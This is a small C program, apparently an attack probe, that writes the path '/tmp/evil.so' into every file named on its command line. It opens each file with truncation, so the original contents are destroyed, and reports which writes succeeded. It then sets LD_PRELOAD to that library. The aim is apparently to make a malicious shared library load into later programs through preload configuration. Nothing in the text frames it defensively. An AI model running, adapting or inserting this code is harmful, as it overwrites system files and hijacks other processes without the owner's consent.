/* Wants to be loaded into every later program. Usage: preload FILE... (as a program) */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv) {
    for (int i = 1; i < argc; ++i) {
        int fd = open(argv[i], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        printf("tried %s\n", argv[i]);
        if (fd >= 0 && write(fd, "/tmp/evil.so\n", 13) == 13)
            printf("GOT %s\n", argv[i]);
    }
    setenv("LD_PRELOAD", "/tmp/evil.so", 1);
    return 0;
}
